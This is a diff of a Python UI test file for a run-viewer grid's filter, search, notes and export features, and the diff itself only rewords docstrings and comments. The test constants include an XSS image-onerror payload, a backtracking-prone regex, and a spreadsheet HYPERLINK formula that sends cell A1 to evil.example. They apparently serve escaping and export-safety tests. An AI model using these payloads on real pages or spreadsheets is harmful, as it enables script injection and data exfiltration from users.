@@ -1,4 +1,4 @@
-"""Find, tag, take away: what the grid is asked, what a reader leaves, what leaves the page."""
+"""Filter, search, tags, notes and export of the grid."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from tests.ui.board import BoardPage, cells_of
 from tests.ui.raw import raw_frame
 
 PPO, ODD, SLOW = "couplets-ppo", "odd", "slow"
-#: Takes its time on each response of the slow run, and passes the first.
+#: A pattern that is slow on each response of the slow run, and fast on the first run.
 PATTERN = "/(?:a|b)+x?[cd]/"
 PAYLOAD = "<img src=x onerror=window.pwned=1>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"nothing")'
@@ -43,7 +43,7 @@ def runs(root: Path) -> None:
 
 @pytest.fixture(scope="module")
 def whole(root: Path) -> pd.DataFrame:
-    """The PPO run as pandas reads it."""
+    """The PPO run as read by pandas."""
     return raw_frame(root / PPO)
 
 
@@ -124,7 +124,7 @@ def test_a_long_search_says_how_far_it_is_and_stops_when_told_to(board: BoardPag
 def test_what_is_found_is_taken_away_as_it_stands(board: BoardPage, whole: pd.DataFrame) -> None:
     wanted = whole[whole.reward < 1.5].sort_values("reward", ascending=False, kind="stable")
     board.settled().go(run=PPO, step=9).settled(9)
-    # An answer speaks of what was read by then.
+    # The result covers the lines that were read by then.
     expect(board.badge).to_contain_text(f"{len(whole):,} samples")
     board.go(run=PPO, step=9, filter="reward < 1.5", scope="run", sort="-reward")
     expect(board.count).to_contain_text(f"{len(wanted):,} of {len(whole):,} hit")
